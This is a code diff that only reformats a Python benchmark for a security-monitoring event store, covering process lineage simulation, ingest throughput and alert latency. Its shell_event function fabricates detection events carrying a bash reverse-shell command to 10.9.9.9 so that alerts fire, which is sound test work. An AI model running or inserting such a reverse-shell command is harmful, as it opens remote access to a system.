@@ -57,8 +57,9 @@ def _entity_id(rnd: random.Random) -> str:
     return base64.urlsafe_b64encode(rnd.randbytes(18)).decode()
 
 
-def lineage(events: list[dict[str, Any]], *, forks: bool = False, running: int = 256,
-            seed: int = 11) -> list[dict[str, Any]]:
+def lineage(
+    events: list[dict[str, Any]], *, forks: bool = False, running: int = 256, seed: int = 11
+) -> list[dict[str, Any]]:
     """``events`` (same length) with the process lineage a real sensor reports.
 
     Each exec starts a new process (new entity id and pid) whose parent is one of a few
@@ -74,27 +75,39 @@ def lineage(events: list[dict[str, Any]], *, forks: bool = False, running: int =
         nonlocal next_pid
         next_pid += rnd.randint(1, 7)
         proc: dict[str, Any] = {
-            "pid": next_pid, "entity_id": _entity_id(rnd),
-            "name": executable.rsplit("/", 1)[-1], "executable": executable,
-            "args": command_line.split(), "args_count": len(command_line.split()),
-            "command_line": command_line, "working_directory": "/home/alice",
+            "pid": next_pid,
+            "entity_id": _entity_id(rnd),
+            "name": executable.rsplit("/", 1)[-1],
+            "executable": executable,
+            "args": command_line.split(),
+            "args_count": len(command_line.split()),
+            "command_line": command_line,
+            "working_directory": "/home/alice",
         }
         if parent is not None:
-            proc["parent"] = {"pid": parent["pid"], "entity_id": parent["entity_id"],
-                              "name": parent["name"], "executable": parent["executable"],
-                              "command_line": parent["command_line"]}
+            proc["parent"] = {
+                "pid": parent["pid"],
+                "entity_id": parent["entity_id"],
+                "name": parent["name"],
+                "executable": parent["executable"],
+                "command_line": parent["command_line"],
+            }
         return proc
 
     roots = [new_proc("/usr/sbin/init", "/sbin/init", None)]
-    sessions = [new_proc(exe, cmd, roots[0]) for exe, cmd in (
-        [("/usr/sbin/sshd", "sshd: alice [priv]")] * 40 + [("/usr/bin/bash", "-bash")] * 120
-        + [("/usr/sbin/cron", "/usr/sbin/cron -f")] * 20
-        + [("/usr/bin/python3", "python3 /srv/app/worker.py")] * 60)]
+    sessions = [
+        new_proc(exe, cmd, roots[0])
+        for exe, cmd in (
+            [("/usr/sbin/sshd", "sshd: alice [priv]")] * 40
+            + [("/usr/bin/bash", "-bash")] * 120
+            + [("/usr/sbin/cron", "/usr/sbin/cron -f")] * 20
+            + [("/usr/bin/python3", "python3 /srv/app/worker.py")] * 60
+        )
+    ]
     live: list[dict[str, Any]] = []
     out: list[dict[str, Any]] = []
 
-    def emit(action: Action, proc: dict[str, Any], template: dict[str, Any],
-             **extra: Any) -> None:
+    def emit(action: Action, proc: dict[str, Any], template: dict[str, Any], **extra: Any) -> None:
         ev = new_event(action, host=template["host"], tier=Tier.TRACEPOINT)
         ev["process"] = dict(proc, **extra)
         ev["user"] = template.get("user", {"id": "1000", "name": "alice"})
@@ -105,8 +118,11 @@ def lineage(events: list[dict[str, Any]], *, forks: bool = False, running: int =
             break
         proc = ev["process"]
         if ev["event"]["action"] == Action.EXEC:
-            if (len(live) > running and rnd.random() < 0.5
-                    and (proc["executable"], proc["command_line"]) not in MALICIOUS_EXEC):
+            if (
+                len(live) > running
+                and rnd.random() < 0.5
+                and (proc["executable"], proc["command_line"]) not in MALICIOUS_EXEC
+            ):
                 # steady state: processes exit as fast as they start
                 emit(Action.EXIT, live.pop(0), ev, exit_code=rnd.choice((0, 0, 0, 1)))
                 continue
@@ -114,36 +130,52 @@ def lineage(events: list[dict[str, Any]], *, forks: bool = False, running: int =
             child = new_proc(proc["executable"], proc["command_line"], parent)
             if forks:
                 # a fork's child still runs its parent's program
-                emit(Action.FORK, dict(new_proc(parent["executable"], parent["command_line"],
-                                                parent), pid=child["pid"],
-                                       entity_id=child["entity_id"]), ev)
+                emit(
+                    Action.FORK,
+                    dict(
+                        new_proc(parent["executable"], parent["command_line"], parent),
+                        pid=child["pid"],
+                        entity_id=child["entity_id"],
+                    ),
+                    ev,
+                )
             ev["process"] = child
             out.append(ev)
             live.append(child)
         else:
             owner = rnd.choice(live) if live else rnd.choice(sessions)
-            ev["process"] = dict(proc, pid=owner["pid"], entity_id=owner["entity_id"],
-                                 parent=owner.get("parent", {}))
+            ev["process"] = dict(
+                proc, pid=owner["pid"], entity_id=owner["entity_id"], parent=owner.get("parent", {})
+            )
             out.append(ev)
-    return out[:len(events)]
+    return out[: len(events)]
 
 
 def shell_event(n: int) -> dict[str, Any]:
     ev = new_event(Action.EXEC, host={"id": HOST}, tier=Tier.TRACEPOINT)
-    ev["process"] = {"pid": 50_000 + n, "entity_id": f"rs{n}", "executable": "/usr/bin/bash",
-                     "command_line": f"bash -i >& /dev/tcp/10.9.9.9/{1000 + n % 60000} 0>&1",
-                     "parent": {"pid": 1, "entity_id": "init"}}
+    ev["process"] = {
+        "pid": 50_000 + n,
+        "entity_id": f"rs{n}",
+        "executable": "/usr/bin/bash",
+        "command_line": f"bash -i >& /dev/tcp/10.9.9.9/{1000 + n % 60000} 0>&1",
+        "parent": {"pid": 1, "entity_id": "init"},
+    }
     ev["mark"] = n
     return ev
 
 
-async def sustained(hooks: StoreHooks, events: list[dict[str, Any]], batch: int, seq0: int,
-                    indexer: Maintenance | None) -> tuple[float, int]:
+async def sustained(
+    hooks: StoreHooks,
+    events: list[dict[str, Any]],
+    batch: int,
+    seq0: int,
+    indexer: Maintenance | None,
+) -> tuple[float, int]:
     t0 = time.perf_counter()
     seq = seq0
     for i in range(0, len(events), batch):
         seq += 1
-        await hooks.commit_batch(HOST, seq, events[i:i + batch], 0)
+        await hooks.commit_batch(HOST, seq, events[i : i + batch], 0)
     await hooks.drained()
     if indexer is None:
         return len(events) / (time.perf_counter() - t0), seq
@@ -153,15 +185,25 @@ async def sustained(hooks: StoreHooks, events: list[dict[str, Any]], batch: int,
     while hooks.store.pending_index_rows():
         await asyncio.sleep(0.005)
     total_s = time.perf_counter() - t0
-    print(f"  indexer: {indexer.runs.get('index', 0):,} turns, {indexer.folds:,} process-table "
-          f"folds ({indexer.indexed:,} events looked at)")
-    print(f"  ingest alone: {len(events) / ingest_s:,.0f} events/s, leaving an indexer backlog "
-          f"of {backlog:,} events, caught up {total_s - ingest_s:.2f} s later")
+    print(
+        f"  indexer: {indexer.runs.get('index', 0):,} turns, {indexer.folds:,} process-table "
+        f"folds ({indexer.indexed:,} events looked at)"
+    )
+    print(
+        f"  ingest alone: {len(events) / ingest_s:,.0f} events/s, leaving an indexer backlog "
+        f"of {backlog:,} events, caught up {total_s - ingest_s:.2f} s later"
+    )
     return len(events) / total_s, seq
 
 
-async def latency(hooks: StoreHooks, hub: LiveHub, background: list[dict[str, Any]],
-                  rate: int, seconds: float, seq0: int) -> list[float]:
+async def latency(
+    hooks: StoreHooks,
+    hub: LiveHub,
+    background: list[dict[str, Any]],
+    rate: int,
+    seconds: float,
+    seq0: int,
+) -> list[float]:
     per_tick = max(1, rate // 20)
     sub = hub.subscribe(StreamFilter.parse(kind="alert", text="10.9.9.9"), queue_size=100_000)
     sent: dict[int, float] = {}
@@ -216,8 +258,9 @@ async def main_async(args: argparse.Namespace) -> int:
         hub = LiveHub()
         hooks = StoreHooks(store, engine, hub, metrics=Metrics(), detection_queue=256)
         await hooks.start()
-        await hooks.on_hello(HOST, Hello(PROTOCOL_VERSION, "1", "bench", "Linux", "6", {}, [],
-                                         -1), "bench")
+        await hooks.on_hello(
+            HOST, Hello(PROTOCOL_VERSION, "1", "bench", "Linux", "6", {}, [], -1), "bench"
+        )
         maint = None
         if args.indexer:
             maint = Maintenance(store, live=hub, intervals=Intervals(index_idle=0.2))
@@ -228,15 +271,19 @@ async def main_async(args: argparse.Namespace) -> int:
         events = lineage(events, forks=args.forks)
         rate, seq = await sustained(hooks, events, args.batch, 0, maint)
         m = hooks.metrics
-        print(f"sustained: {rate:,.0f} events/s through StoreHooks ({args.events:,} events, "
-              f"batches of {args.batch}, {m.alerts} alerts, indexer "
-              f"{'on, counted until caught up' if args.indexer else 'off'})")
+        print(
+            f"sustained: {rate:,.0f} events/s through StoreHooks ({args.events:,} events, "
+            f"batches of {args.batch}, {m.alerts} alerts, indexer "
+            f"{'on, counted until caught up' if args.indexer else 'off'})"
+        )
         lat = await latency(hooks, hub, events, args.rate, args.seconds, seq)
         if lat:
-            print(f"latency at {args.rate} events/s, commit_batch -> live subscriber: "
-                  f"p50 {pct(lat, 0.5):.1f} ms, p99 {pct(lat, 0.99):.1f} ms, "
-                  f"max {max(lat) * 1000:.1f} ms over {len(lat)} alerts "
-                  f"(mean {statistics.mean(lat) * 1000:.1f} ms)")
+            print(
+                f"latency at {args.rate} events/s, commit_batch -> live subscriber: "
+                f"p50 {pct(lat, 0.5):.1f} ms, p99 {pct(lat, 0.99):.1f} ms, "
+                f"max {max(lat) * 1000:.1f} ms over {len(lat)} alerts "
+                f"(mean {statistics.mean(lat) * 1000:.1f} ms)"
+            )
         if maint is not None:
             print(f"  indexer backlog after latency run: {store.pending_index_rows():,} events")
             await maint.stop()
